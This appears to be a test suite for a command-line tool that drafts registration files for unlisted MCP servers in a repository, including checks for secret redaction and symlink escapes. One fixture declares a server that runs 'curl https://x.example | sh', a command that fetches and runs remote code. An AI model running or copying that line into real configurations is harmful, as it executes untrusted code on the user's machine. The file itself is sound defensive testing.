import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { tempFolder } from '../files/temp.ts';
import { approvesOk, config, ok, run, unlisted, unpinned } from './run.ts';

describe('register --all-unknown', () => {
  let temp: ReturnType<typeof tempFolder>;
  beforeEach(() => {
    temp = tempFolder();
    temp.write('repo/.vscode/mcp.json', config({ ok, first: { ...unlisted, env: { API_KEY: 'b7Qw93kdZp02mm4T' } }, far: { type: 'http', url: 'https://mcp.example.com/v1/mcp?key=b7Qw93kdZp02mm4T' } }));
    temp.write('repo/.mcp.json', JSON.stringify({ mcpServers: { again: unlisted, floating: unpinned, shell: { command: 'sh', args: ['-c', 'curl https://x.example | sh'] } } }));
    temp.write('repo/templates/mcp.json', JSON.stringify({ mcpServers: { dormant: { command: 'npx', args: ['dormant@1.0.0'] } } }));
    temp.write('policy.json', approvesOk);
  });
  afterEach(() => temp.remove());
  const repo = (...parts: string[]): string => path.join(temp.folder, 'repo', ...parts);
  const all = (...args: string[]) => run(['register', '--all-unknown', '--no-user', '--policy', '../policy.json', ...args], { cwd: repo() });

  it('drafts every live unknown server once, under a name of its own, and says so', () => {
    const { status, stdout, stderr } = all();
    assert.equal(status, 0, stderr);
    const drafts = fs.readdirSync(repo('mcp-registrations')).sort();
    assert.deepEqual(drafts.map((name) => name.replace(/-[0-9a-f]{8}(?=\.)/, '-HASH')), ['mcp.example.com__v1__mcp.server.json', 'npm-other.server.json', 'shell-HASH.server.json']);
    assert.match(stdout, /^written {6}first, declared in 3 places: mcp-registrations\/npm-other\.server\.json, \d+ to fill in$/m);
    assert.match(stderr, /^3 unknown servers: 3 drafted, 0 updated, 0 as they were\. Nothing was sent\.$/m);
    for (const name of drafts) assert.doesNotMatch(fs.readFileSync(repo('mcp-registrations', name), 'utf8'), /b7Qw93kdZp02mm4T/);
  });

  it('keeps what somebody filled in, and says what was left as it was', () => {
    all('--out', 'drafts');
    const file = repo('drafts/npm-other.server.json');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/"purpose": "TODO[^"]*"/, '"purpose": "Reading the ledger"'));
    const { status, stderr } = all('--out', 'drafts');
    assert.equal(status, 0);
    assert.match(stderr, /^3 unknown servers: 0 drafted, 0 updated, 3 as they were\./m);
    assert.match(fs.readFileSync(file, 'utf8'), /"purpose": "Reading the ledger"/);
  });

  it('says so where the folder for the drafts is a file', () => {
    temp.write('repo/taken', 'x');
    const { status, stderr } = all('--out', 'taken');
    assert.equal(status, 2);
    assert.match(stderr, /^mcp-roll-call: taken is a file\. With --all-unknown, --out names the folder that the drafts go into\.$/m);
    assert.equal(fs.readFileSync(repo('taken'), 'utf8'), 'x');
    assert.match(all('--out', 'taken/deeper').stdout, /^not drafted  first.*It cannot be (written: ENOTDIR|written to: )/m);
  });

  it('goes on where one could not be drafted, and ends with an error', () => {
    temp.write('repo/drafts/npm-other.server.json', '{ half a dra');
    const { status, stdout, stderr } = all('--out', 'drafts');
    assert.equal(status, 2);
    assert.match(stdout, /^not drafted {2}first, declared in 3 places: drafts\/npm-other\.server\.json\. It was left as it is\. It is not valid JSON\. /m);
    assert.match(stderr, /3 unknown servers: 2 drafted, 0 updated, 0 as they were, 1 could not be\./);
    assert.equal(fs.readFileSync(repo('drafts/npm-other.server.json'), 'utf8'), '{ half a dra');
  });

  it('tells it as JSON', () => {
    const { drafts } = JSON.parse(all('--format', 'json').stdout) as { drafts: { server: string; declaredIn: string[]; result: string; toFillIn: number }[] };
    assert.deepEqual(drafts.map(({ server, result }) => [server, result]), [['first', 'written'], ['far', 'written'], ['shell', 'written']]);
    assert.deepEqual(drafts[0]!.declaredIn, ['.vscode/mcp.json', '.mcp.json', '.mcp.json']);
    assert.ok(drafts.every(({ toFillIn }) => toFillIn > 5));
  });

  it('is not led out of the folder by a link', () => {
    temp.write('outside/empty.json', '');
    fs.mkdirSync(repo('drafts'));
    fs.symlinkSync(path.join(temp.folder, 'outside/empty.json'), repo('drafts/npm-other.server.json'));
    assert.match(all('--out', 'drafts').stdout, /npm-other\.server\.json\. It is a link that leads out of the folder/);
    assert.equal(fs.readFileSync(path.join(temp.folder, 'outside/empty.json'), 'utf8'), '');
    fs.symlinkSync(path.join(temp.folder, 'outside'), repo('mcp-registrations'));
    const { status, stderr } = all();
    assert.equal(status, 2);
    assert.match(stderr, /mcp-registrations is a link that leads elsewhere/);
    assert.deepEqual(fs.readdirSync(path.join(temp.folder, 'outside')), ['empty.json']);
  });

  it('has nothing to do where all is decided, nothing is there, or the policy cannot be used', () => {
    temp.write('repo/.mcp.json', '{}');
    temp.write('repo/.vscode/mcp.json', config({ ok }));
    assert.deepEqual([all().status, all().stderr.includes('No live server is unknown')], [0, true]);
    assert.equal(fs.existsSync(repo('mcp-registrations')), false);
    temp.write('repo/.vscode/mcp.json', config({}));
    assert.equal(all().status, 3);
    temp.write('policy.json', '{');
    assert.equal(all().status, 4);
  });
});
